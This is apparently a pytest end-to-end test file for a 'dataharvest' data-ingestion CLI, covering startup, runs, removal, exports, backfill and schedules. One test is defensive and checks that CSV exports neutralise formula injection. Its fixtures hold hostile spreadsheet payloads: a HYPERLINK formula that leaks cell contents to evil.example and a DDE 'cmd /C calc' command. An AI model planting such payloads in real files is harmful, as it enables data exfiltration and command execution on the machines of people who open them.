"""The dataharvest CLI end to end, as a user runs it: a detached local stack in a fresh
DATAHARVEST_HOME, the example drop, status, registry listing, export, down."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

# The CLI starts its own local stack: these need one as much as integration tests do.
pytestmark = [pytest.mark.e2e, pytest.mark.integration]

REPO = Path(__file__).resolve().parents[2]
EXAMPLES = REPO / "examples"


def cli(home: Path, *args: str, timeout: float = 600) -> subprocess.CompletedProcess:
    env = {
        k: v
        for k, v in os.environ.items()
        if k
        not in (
            "DATABASE_URL",
            "AWS_ENDPOINT_URL",
            "METASTORE_TABLE",
            "LANDING_BUCKET",
            "RESULT_QUEUE_URL",
        )
    }
    env["DATAHARVEST_HOME"] = str(home)
    return subprocess.run(
        [sys.executable, "-m", "dataharvest_local.cli", *args],
        env=env,
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
    )


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    home = tmp_path_factory.mktemp("e2e-home")
    started = time.monotonic()
    up = cli(home, "up", "--detach")
    assert up.returncode == 0, up.stderr
    print(f"dataharvest up --detach: {time.monotonic() - started:.1f} s")
    yield home
    down = cli(home, "down")
    assert down.returncode == 0, down.stderr


def test_up_and_url_print_the_api_base_url(home):
    again = cli(home, "up", "--detach")
    url = cli(home, "url")
    assert url.returncode == 0, url.stderr
    assert url.stdout == again.stdout and url.stdout.startswith("http://127.0.0.1:")
    assert url.stdout.count("\n") == 1


def example_clients() -> list[str]:
    return sorted(p.name for p in EXAMPLES.iterdir() if p.is_dir())


def test_up_is_idempotent_and_status_starts_empty(home):
    again = cli(home, "up", "--detach")
    assert again.returncode == 0
    assert "already running" in again.stderr
    status = cli(home, "status", "--json")
    assert status.returncode == 0, status.stderr
    assert json.loads(status.stdout) == []


def test_transformers_are_registered(home):
    listing = cli(home, "transformers", "list", "--json")
    assert listing.returncode == 0, listing.stderr
    names = {e["name"] for e in json.loads(listing.stdout)}
    assert "relationship_transformer" in names


@pytest.mark.skipif(not EXAMPLES.exists(), reason="examples/ not present")
def test_run_the_example_drop_prints_the_metastore_table(home):
    for client in example_clients():
        result = cli(home, "run", str(EXAMPLES / client), "--client", client, "--json")
        assert result.returncode == 0, result.stderr
        items = json.loads(result.stdout[result.stdout.index("[") :])
        assert items, f"no metastore items for {client}"
        for item in items:
            assert item["partition_key"] == client
            assert item["client_persisted"] is True
            assert item["relationship_transformer_done"] is True


@pytest.mark.skipif(not EXAMPLES.exists(), reason="examples/ not present")
def test_remove_retracts_the_input_and_what_derives_from_it(home):
    client = example_clients()[0]
    day = sorted(p.name for p in (EXAMPLES / client).glob("accounts_*.csv"))[-1]
    date = day.removeprefix("accounts_").removesuffix(".csv")

    def summary() -> list[dict]:
        export = cli(
            home, "export", "portfolio-summary", "--client", client, "--date", date,
            "--format", "json",
        )  # fmt: skip
        assert export.returncode == 0, export.stderr
        return json.loads(export.stdout)

    # The drop is in place (whichever test ran before), so the removal has outputs to retract.
    ran = cli(home, "run", str(EXAMPLES / client), "--client", client, "--json")
    assert ran.returncode == 0, ran.stderr
    assert summary() != []
    result = cli(home, "remove", day, "--client", client, "--json")
    assert result.returncode == 0, result.stderr
    items = {i["sort_key"]: i for i in json.loads(result.stdout[result.stdout.index("[") :])}
    assert items[date]["account_persisted"] is False
    assert items[date]["relationship_transformer_done"] is False
    assert summary() == []


HOSTILE_LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_DROP = {
    "clients_20240102.csv": (
        "record_id,first_name,last_name,client_reference,tax_free_allowance\n"
        '1,Eve,Evil,"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",100.00\n'
    ),
    "accounts_20240102.csv": (
        "record_id,account_number,cash_balance,currency,taxes_paid\n1,500,-12.50,EUR,1.25\n"
    ),
    "portfolios_20240102.csv": (
        "record_id,account_number,portfolio_reference,client_reference,agent_code\n"
        '1,500,@SUM(A1),"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",A7\n'
    ),
    "transactions_20240102.csv": (
        "record_id,account_number,transaction_reference,amount,keyword\n"
        "1,500,+1+cmd|' /C calc'!A0,-3.00,DEPOSIT\n"
        + "".join(f"{i},500,T{i},1.00,TAX\n" for i in range(2, 11))
        + "11,500,T11,-2+3,DEPOSIT\n"
    ),
}


def test_csv_exports_neutralise_formulas_in_text_never_in_numbers(home, tmp_path):
    client = "hostile-drop"
    for name, body in HOSTILE_DROP.items():
        (tmp_path / name).write_text(body)
    result = cli(home, "run", str(tmp_path), "--client", client, "--json")
    assert result.returncode == 0, result.stderr

    def export(table: str, *extra: str) -> str:
        done = cli(home, "export", table, "--client", client, "--date", "2024-01-02", *extra)
        assert done.returncode == 0, done.stderr
        return done.stdout

    assert export("portfolio-summary") == (
        "portfolio_reference,client_reference,account_number,cash_balance,"
        "number_of_transactions,sum_of_deposits\n"
        '\'@SUM(A1),"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",500,-12.50,10,'
        "-3.00\n"
    )
    assert export("client-tax") == (
        "client_reference,tax_free_allowance,taxes_paid\n"
        '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",100.00,1.25\n'
    )
    rejected = list(csv.DictReader(io.StringIO(export("rejections"))))
    assert [(r["line_number"], r["column_name"], r["value"]) for r in rejected] == [
        ("12", "amount", "'-2+3")
    ]
    # --raw prints what is stored; JSON is never touched.
    raw = list(csv.DictReader(io.StringIO(export("portfolio-summary", "--raw"))))
    assert [(r["portfolio_reference"], r["client_reference"]) for r in raw] == [
        ("@SUM(A1)", HOSTILE_LINK)
    ]
    assert [r["value"] for r in csv.DictReader(io.StringIO(export("rejections", "--raw")))] == [
        "-2+3"
    ]
    as_json = json.loads(export("client-tax", "--format", "json"))
    assert as_json == [
        {"client_reference": HOSTILE_LINK, "tax_free_allowance": "100.00", "taxes_paid": "1.25"}
    ]


@pytest.mark.skipif(not EXAMPLES.exists(), reason="examples/ not present")
def test_enable_and_register_backfill_what_is_due_and_skip_what_is_done(home):
    """The CLI's register / enable path: the backfill sweep sends what the registry says is due
    now, and a second sweep sends nothing for items already done."""
    name = "sum_deposit_transformer"
    client = "backfill-bank"  # a client of its own: no other test's items are involved

    def items() -> list[dict]:
        status = cli(home, "status", "--client", client, "--json")
        assert status.returncode == 0, status.stderr
        return json.loads(status.stdout)

    disabled = cli(home, "transformers", "disable", name)
    assert disabled.returncode == 0, disabled.stderr
    try:
        ran = cli(home, "run", str(EXAMPLES / example_clients()[0]), "--client", client, "--json")
        assert ran.returncode == 0, ran.stderr
        before = items()
        assert len(before) == 2
        # Everything upstream ran; the disabled transformer did not.
        assert all(i["relationship_transformer_done"] is True for i in before)
        assert not any(i.get(f"{name}_done") for i in before)
    finally:
        enabled = cli(home, "transformers", "enable", name)
    assert enabled.returncode == 0, enabled.stderr
    # At least this client's two dates were due (other tests' clients may be too).
    applied = int(enabled.stderr.split("backfill: ")[1].split(" APPLY")[0])
    assert applied >= 2, enabled.stderr
    after = items()
    assert all(i[f"{name}_done"] is True for i in after), after
    assert all(name not in i["stuck"] for i in after)

    again = cli(home, "transformers", "enable", name)
    assert again.returncode == 0, again.stderr
    assert "backfill: 0 APPLY and 0 RETRACT sent" in again.stderr
    registered = cli(home, "transformers", "register", f"services/{name}")
    assert registered.returncode == 0, registered.stderr
    assert "backfill: 0 APPLY and 0 RETRACT sent" in registered.stderr
    assert items() == after


def test_schedule_lists_and_advances_the_local_schedules(home):
    from datetime import datetime, timedelta

    listing = cli(home, "schedule", "--json")
    assert listing.returncode == 0, listing.stderr
    before = json.loads(listing.stdout)
    checker = next(s for s in before["schedules"] if s["function"].endswith("-checkLate"))
    assert checker["expression"] == "rate(15 minutes)"
    advanced = cli(home, "schedule", "--advance", "16m", "--json")
    assert advanced.returncode == 0, advanced.stderr
    after = json.loads(advanced.stdout)
    assert datetime.fromisoformat(after["now"]) >= datetime.fromisoformat(
        before["now"]
    ) + timedelta(minutes=16)
    ran = next(s for s in after["schedules"] if s["function"] == checker["function"])
    assert ran["fired"] >= checker["fired"] + 1 and ran["retrying"] == 0
    bad = cli(home, "schedule", "--advance", "soon")
    assert bad.returncode == 2 and bad.stderr.count("\n") == 1, bad.stderr


@pytest.mark.skipif(not EXAMPLES.exists(), reason="examples/ not present")
def test_run_progress_goes_to_stderr_and_leaves_stdout_unchanged(home, tmp_path):
    import re
    import shutil
    import uuid

    drop = tmp_path / "drop"
    shutil.copytree(EXAMPLES / example_clients()[0], drop)
    tag = uuid.uuid4().hex[:8]
    shown, plain = f"progress-{tag}", f"noprogress-{tag}"
    with_progress = cli(home, "run", str(drop), "--client", shown, "--json", "--progress")
    assert with_progress.returncode == 0, with_progress.stderr
    without = cli(home, "run", str(drop), "--client", plain, "--json", "--no-progress")
    assert without.returncode == 0, without.stderr

    # Progress lines on stderr, one per refresh (not a terminal, so each on its own line).
    waiting = [line for line in with_progress.stderr.splitlines() if line.startswith("waiting:")]
    assert waiting, with_progress.stderr
    keys = len(list(drop.iterdir()))
    line = re.compile(
        rf"waiting: [0-9]+/{keys} keys settled, (chunks [0-9]+/[0-9]+ staged, )?[0-9]+ s "
        r"\([0-9]+ invocations, [0-9]+ in flight, [0-9]+ failed\)"
    )
    assert all(line.fullmatch(w) for w in waiting), waiting
    assert "waiting:" not in without.stderr
    # stdout is the same result either way: the client id, sequence numbers, times and object
    # versions aside.
    assert "waiting" not in with_progress.stdout
    assert _stable(with_progress.stdout, shown) == _stable(without.stdout, plain)


def _stable(stdout: str, client: str) -> list:
    """The JSON documents of a `run --json` stdout, without what differs between two runs."""
    import re

    volatile = re.compile(r"(_seq|_at|version|_id)$")

    def strip(value):
        if isinstance(value, dict):
            return {k: "*" if volatile.search(k) else strip(v) for k, v in value.items()}
        if isinstance(value, list):
            return [strip(v) for v in value]
        return value

    decoder, text = json.JSONDecoder(), stdout.replace(client, "CLIENT")
    documents, position = [], 0
    while position < len(text):
        if text[position].isspace():
            position += 1
            continue
        document, position = decoder.raw_decode(text, position)
        documents.append(strip(document))
    assert documents, stdout
    return documents
